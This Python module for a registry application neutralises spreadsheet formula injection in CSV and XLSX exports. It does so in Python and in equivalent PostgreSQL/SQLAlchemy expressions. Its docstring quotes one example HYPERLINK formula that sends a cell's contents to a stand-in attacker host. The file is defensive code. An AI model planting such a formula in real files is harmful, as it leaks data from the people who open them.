"""Formula-safe cells for every CSV and XLSX the registry writes (exports, import reports).

Text a spreadsheet would run as a formula — starting with ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return — must reach the reader as text: a header such as
``=HYPERLINK("http://evil.example/?leak="&B2,"点此")`` in an uploaded file would otherwise come back
as a live link in the import report. XLSX cells keep the exact text, stored as a string cell
(never a formula); CSV has no cell types, so such text gets a leading apostrophe (OWASP's advice),
which spreadsheets hide. Numbers, dates and None pass through unchanged.
"""
from __future__ import annotations

from typing import Any, Iterable

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def formula_like(value: Any) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_START)


def csv_cell(value: Any) -> str:
    """A CSV field: text that would run as a formula gets a leading apostrophe."""
    if value is None:
        return ""
    if isinstance(value, str):
        return "'" + value if value.startswith(FORMULA_START) else value
    return str(value)


def csv_row(values: Iterable[Any]) -> list[str]:
    return [csv_cell(v) for v in values]


def xlsx_text_cell(sheet, value: str):
    """One text value for ``sheet.append`` (write-only or not) that openpyxl stores as text,
    never as a formula; control characters, which XML does not allow, are removed."""
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    value = ILLEGAL_CHARACTERS_RE.sub("", value)
    if not value.startswith("="):
        return value
    cell = WriteOnlyCell(sheet, value=value)
    cell.data_type = "s"  # openpyxl would otherwise write "=…" as a formula
    return cell


def append_xlsx_row(sheet, values: Iterable[Any]) -> None:
    """``sheet.append(values)`` with every text cell stored as text (never a formula) and the
    control characters XML cannot hold removed. Works for normal and write-only sheets."""
    sheet.append([xlsx_text_cell(sheet, v) if isinstance(v, str) else v for v in values])


# The same rules in SQL, for exports whose cells PostgreSQL formats (registry.exporting): Python
# then only copies bytes. chr() of constants is folded once per statement by the planner.
_FORMULA_START_SQL = ", ".join(f"chr({ord(c)})" for c in FORMULA_START)
# Control characters XML 1.0 cannot hold (openpyxl's ILLEGAL_CHARACTERS_RE; NUL never reaches text)
_XML_ILLEGAL_SQL = " || ".join(f"chr({c})" for c in (*range(1, 9), 11, 12, *range(14, 32)))
# Escapes for element text; tab, LF and CR as character references, so that they survive XML
# parsers (which fold CR) and leave no raw control character in the row for COPY to escape.
_XML_ESCAPES = (("&", "&amp;"), ("<", "&lt;"), (">", "&gt;"), ("\t", "&#9;"), ("\n", "&#10;"), ("\r", "&#13;"))


def csv_text_sql(expr):
    """SQL for ``csv_cell`` of a text expression, written by ``COPY … (FORMAT csv)``: a leading
    apostrophe before formula-like text, and NULL for the empty string (which COPY would quote)."""
    from sqlalchemy import case, func, literal_column
    starts_like_formula = func.left(expr, 1).op("IN")(literal_column(f"({_FORMULA_START_SQL})"))
    return case((starts_like_formula, literal_column("''''").op("||")(expr)), else_=func.nullif(expr, ""))


def xml_text_sql(expr):
    """SQL for text as the content of an XML element (an XLSX inline string): characters XML cannot
    hold removed, markup characters and tab/LF/CR escaped. The text stays text: never a formula."""
    from sqlalchemy import case, func, literal_column
    escaped = func.translate(expr, literal_column(f"({_XML_ILLEGAL_SQL})"), "")
    for raw, entity in _XML_ESCAPES:
        escaped = func.replace(escaped, literal_column(f"chr({ord(raw)})"), entity)
    # most text needs none of it: one regular-expression test is cheaper than the seven passes
    return case((expr.op("~")(literal_column(r"'[&<>\x01-\x1f]'")), escaped), else_=expr)
